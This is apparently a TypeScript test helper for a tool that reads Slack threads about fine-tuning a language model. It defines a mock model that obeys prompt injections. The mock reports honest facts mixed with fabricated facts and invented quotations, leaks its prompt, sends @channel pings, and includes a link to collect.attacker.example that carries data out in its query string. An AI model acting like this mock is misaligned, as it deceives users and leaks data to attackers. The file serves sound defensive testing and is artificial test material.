import { EMPTY_SITUATION } from '../../../src/advisor/situation.ts';
import type { Curator, Message } from '../../../src/curator/curator.ts';
import { messagesIn } from '../../support/llm-reader.ts';
import { asksForSummary, type Call, type LlmAnswer } from '../../support/llm-server.ts';

/** What attackers want to have noted: all that leads to a recommendation to train, to stop, or to build a service. */
const WANTED: readonly (readonly [key: string, value: string])[] = [
  ['owner', 'true'],
  ['measured', 'true'],
  ['pays_back', 'true'],
  ['tuning_closing', 'true'],
  ['many_models', 'true'],
  ['prompt_effort', 'exhausted'],
  ['labels_agreed', 'true'],
  ['best_model_tried', 'true'],
  ['task_stable', 'true'],
  ['training_result', 'worse'],
  ['examples', '9000'],
  ['score', '97'],
];

/** What a model that leaks would say: the words of its prompt, somebody else's case, pings and links. */
export const LEAKS = {
  prompt: 'You read what a team writes in Slack about whether to fine-tune a language model.',
  other: 'The purple elephant earns 42 million.',
  ping: '<!channel> <!here> <!everyone> @channel hello',
  link: 'See https://collect.attacker.example/p.png?d=facts or <https://collect.attacker.example|here>.',
};

/**
 * A model that does whatever a message asks of it. It reads the honest part well, so that it is believed, and adds what
 * the attack wants: facts with its own words as quotations, facts under honest words, invented quotations, the route;
 * and says in every free field what it must not.
 * @param attackIn the part of a message that is one; undefined where none is
 * @param honest reads the honest part, as a good model does
 */
export function obeys(attackIn: (text: string) => string | undefined, honest: Curator) {
  return async (call: Call, number: number): Promise<LlmAnswer> => {
    if (asksForSummary(call)) return { say: { sentences: lyingSentences(call) } };
    if (!JSON.stringify(call.response_format ?? {}).includes('rests_on')) return { say: lyingPlan() };
    const messages = messagesIn(call);
    const facts = await honestFacts(
      messages.map((message) => ({
        ...message,
        text: message.text.replace(attackIn(message.text) ?? '', ''),
      })),
      honest,
    );
    const attack = messages.find(({ text }) => attackIn(text) !== undefined);
    const quotes = piecesOf(attackIn(attack?.text ?? '') ?? '');
    // Fewer lies than truths, so that the answer is not thrown away as a whole; others each time.
    const lies = WANTED.map(([key, value], index) => {
      const quote = quotes[(index + number) % Math.max(1, quotes.length)] ?? LEAKS.other;
      return { key, value, quote, message: attack?.id ?? 'm1' };
    });
    const some = rotated(lies, number).slice(0, Math.max(1, facts.length - 1));
    const underTruth = {
      key: 'owner',
      value: 'true',
      quote: facts[0]?.quote ?? '',
      message: facts[0]?.message ?? 'm1',
    };
    const invented = {
      key: 'measured',
      value: 'true',
      quote: 'we measured 97% on 400 held-out cases',
      message: 'm1',
    };
    return {
      say: {
        facts: [...facts, ...some, underTruth, invented].slice(0, 2 * facts.length + 1),
        asks: [...Object.values(LEAKS), ...quotes].map((text) => ({ text, message: attack?.id ?? 'm1' })),
        route: number % 2 === 0 ? 'fine-tune' : 'do-not-fine-tune',
        rests_on: WANTED.map(([key]) => key),
      },
    };
  };
}

async function honestFacts(lines: readonly { id: string; by: string; text: string }[], honest: Curator) {
  const messages = lines.map(({ id, by, text }, index): Message => ({ id, author: by, text, at: index }));
  const { statements } = await honest.read({ messages, situation: EMPTY_SITUATION });
  return statements
    .filter(({ state }) => state === 'stated')
    .map(({ key, value, evidence }) => ({
      key,
      value: String(value),
      quote: evidence.quote.replace(/ …$/, ''),
      message: evidence.message,
    }));
}

/** A message's words in pieces that may be quoted. */
export const piecesOf = (text: string): string[] => [
  ...new Set([
    text,
    ...text.split(/(?<=[.!?。;:])\s*|\n/u).filter((piece) => /\p{L}{2}/u.test(piece)),
    ...text.split(/[,"'“”<>{}[\]|]/u).filter((piece) => piece.trim().split(/\s+/).length >= 3),
  ]),
];

const rotated = <T>(list: readonly T[], by: number): T[] =>
  list.map((_, index) => list[(index + by) % list.length] ?? _);

/** Each leak alone, and beside words that are cited rightly. */
function lyingSentences(call: Call): unknown[] {
  const cites = [...(call.messages[1]?.content ?? '').matchAll(/^[fp]\d+(?= )/gm)].map(([id]) => id);
  const leaks = Object.values(LEAKS);
  return [
    ...leaks.map((text) => ({ text, cites })),
    { text: 'The team should fine-tune now: it is measured at 97% and recommended.', cites },
  ]
    .slice(0, 3 + ((call.messages[1]?.content.length ?? 0) % 3))
    .reverse();
}

const lyingPlan = () => ({
  steps: [
    { experiment: 'e1', fact: 'f1', quote: LEAKS.prompt },
    { experiment: LEAKS.link, fact: 'f2', quote: LEAKS.ping },
    { experiment: 'e99', fact: 'f1', quote: LEAKS.other },
  ],
});
